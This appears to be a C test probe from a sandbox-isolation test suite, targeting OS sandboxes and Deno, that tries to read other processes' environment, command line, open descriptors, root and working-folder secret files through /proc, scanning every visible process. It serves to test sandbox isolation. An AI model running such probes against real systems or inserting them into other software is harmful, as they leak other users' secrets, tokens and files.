// Reads what /proc tells of processes outside: environment, command line, descriptors, root,
// working folder, maps. Of every process that it can see.
// class: OS sandboxes, Deno: /proc/PID/{environ,root,fd} of others
// plain: leak
#include "attack.h"
#include <dirent.h>

static void look(pid_t pid) {
  read_path(text("/proc/%d/environ", pid));
  read_path(text("/proc/%d/cmdline", pid));
  read_path(text("/proc/%d/fd/%ld", pid, number("OUTSIDER_FD")));
  read_path(text("/proc/%d/task/%d/environ", pid, pid));
  read_path(text("/proc/%d/root%s", pid, fact("KEY")));
  read_path(text("/proc/%d/cwd/secret.txt", pid));
  read_path(text("/proc/%d/task/%d/cwd/secret.txt", pid, pid));
  const int folder = open(text("/proc/%d/cwd", pid), O_PATH | O_DIRECTORY);
  if (folder >= 0) drain_and_close(openat(folder, "secret.txt", O_RDONLY), "from the other's working folder");
}

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  pid_t pids[8];
  for (int i = 0, n = victims(pids); i < n; ++i) look(pids[i]);
  if (inside()) {
    // Whoever is there besides ourselves and pid 1 came in from outside.
    DIR* proc = opendir("/proc");
    for (struct dirent* entry; proc && (entry = readdir(proc));) {
      const pid_t pid = atoi(entry->d_name);
      if (pid > 0 && pid != getpid()) look(pid);
    }
  }
  return 0;
}
